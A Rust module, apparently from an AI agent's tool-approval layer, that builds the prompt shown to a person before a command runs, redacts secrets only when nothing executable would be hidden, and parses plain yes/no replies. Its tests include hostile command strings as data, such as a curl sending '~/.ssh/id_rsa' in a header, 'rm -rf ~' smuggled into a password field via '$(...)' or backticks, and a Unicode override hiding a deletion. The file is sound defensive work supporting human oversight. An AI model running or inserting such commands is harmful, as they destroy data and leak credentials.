//! What a question says, and which words answer one.
//!
//! **Invariant:** what is bound is what is shown, all of it, in characters that can be seen. Pure.

use std::time::Duration;

use homing_domain::danger;
use homing_domain::ids::ApprovalId;
use homing_domain::redact::redact;
use homing_domain::time::Span;
use homing_ports::platform::Button;
use homing_ports::store::Asker;
use homing_tools::Question;

/// What a person reads: all of it, in as many messages as it takes.
pub(super) fn asked(
    approval: ApprovalId,
    question: &Question,
    within: Duration,
    in_background: bool,
) -> String {
    let command = shown(&question.command);
    let who = match (question.asker, in_background) {
        (Asker::Delegation(_), _) => "A sub-agent asks: may it run this?",
        (Asker::Turn(_), true) => "For a result of background work: may I run this?",
        (Asker::Turn(_), false) => "May I run this?",
    };
    format!(
        "{who}\n```\n{command}\n```\n{}\n\nWithin {}: /approve {approval} for once, with `session` for the rest of this session, \
         with `always` for this command from now on; or /deny {approval}. A plain yes or no will do.",
        question.why,
        Span(within)
    )
}

/// Secrets are hidden, unless something that is run could be hidden with them: nobody approves what they cannot read.
fn shown(command: &str) -> String {
    let all = danger::readable(command);
    let redacted = redact(&all);
    let hidden = redacted != all.as_str();
    match hidden && may_run(&all, &redacted) {
        true => all.replace("```", "'''"),
        false => redacted.replace("```", "'''"),
    }
}

/// Whether what was hidden may be more than a word that is only given on.
fn may_run(all: &str, redacted: &str) -> bool {
    let signs = |text: &str| {
        let is_sign = |sign: &char| !sign.is_alphanumeric() && !"-_.+/=:@%~,[]".contains(*sign);
        text.chars().filter(is_sign).count()
    };
    let rules = |text: &str| -> Vec<danger::Rule> {
        let dangers = danger::look(text);
        dangers.into_iter().map(|danger| danger.rule).collect()
    };
    let within_others = ["`", "$(", "<(", ">("];
    within_others.iter().any(|sign| all.contains(sign))
        || signs(all) != signs(redacted)
        || rules(all) != rules(redacted)
}

pub(super) fn buttons(approval: ApprovalId) -> Vec<Vec<Button>> {
    let button = |label: &str, says: String| Button {
        label: label.to_owned(),
        says,
    };
    vec![
        vec![
            button("Approve once", format!("/approve {approval}")),
            button("For this session", format!("/approve {approval} session")),
        ],
        vec![
            button("Always", format!("/approve {approval} always")),
            button("Deny", format!("/deny {approval}")),
        ],
    ]
}

/// A plain answer and nothing else. Anything that could mean more is a message.
pub(super) fn yes_or_no(text: &str) -> Option<bool> {
    const YES: [&str; 10] = [
        "yes", "y", "ok", "okay", "yep", "yeah", "sure", "approve", "approved", "go ahead",
    ];
    const NO: [&str; 9] = [
        "no", "n", "nope", "deny", "denied", "don't", "do not", "never", "stop",
    ];
    let plain = text.trim().trim_end_matches(['.', '!']).to_lowercase();
    match plain.as_str() {
        word if YES.contains(&word) => Some(true),
        word if NO.contains(&word) => Some(false),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use homing_domain::ids::TurnId;

    #[test]
    fn only_a_plain_answer_is_one() {
        for yes in ["yes", "Y", " OK. ", "Go ahead!"] {
            assert_eq!(yes_or_no(yes), Some(true), "{yes}");
        }
        for no in ["no", "N", "Deny", "don't"] {
            assert_eq!(yes_or_no(no), Some(false), "{no}");
        }
        for neither in [
            "",
            "yes, but only the first",
            "no idea",
            "ok?",
            "yesterday",
            "y n",
        ] {
            assert_eq!(yes_or_no(neither), None, "{neither}");
        }
    }

    #[test]
    fn what_a_button_says_fits_and_names_its_question() {
        let approval = ApprovalId::from_number(u64::MAX);
        for button in buttons(approval).into_iter().flatten() {
            assert!(button.says.len() <= 64, "{}", button.says);
            assert!(button.says.contains(&approval.to_string()));
        }
    }

    #[test]
    fn a_secret_is_hidden_and_nothing_that_is_run() {
        let hidden = shown("curl --data password=hunter2hunter2 https://example.com");
        assert!(
            hidden.contains("[redacted]") && !hidden.contains("hunter2"),
            "{hidden}"
        );
        for command in [
            "password=$(rm -rf ~) ls",
            "curl -H \"Authorization: Bearer $(cat ~/.ssh/id_rsa)\" x",
            "PASSWORD=`rm -rf x`",
            "rm x/*; PASSWORD=`./run`",
            "rm x/*; PASSWORD=\"$(./run)\"",
            "nice --password reboot",
            "echo \u{202e}x; rm -rf ~",
        ] {
            let shown = shown(command);
            assert_eq!(shown, command.replace('\u{202e}', "\\u{202e}"));
        }
    }

    #[test]
    fn a_question_names_command_reason_time_and_what_to_type() {
        let question = Question {
            asker: Asker::Turn(TurnId::from_number(1)),
            command: format!("rm -rf build\u{202e}\n{}", "a ".repeat(4_000)),
            why: "It removes files.".into(),
        };
        let text = asked(
            ApprovalId::from_number(2),
            &question,
            std::time::Duration::from_secs(300),
            false,
        );
        for part in [
            "May I run this?\n```\nrm -rf build\\u{202e}\na a",
            &"a ".repeat(4_000),
            "It removes files.",
            "5 min",
            "/approve apr_",
            "/deny apr_",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
    }
}
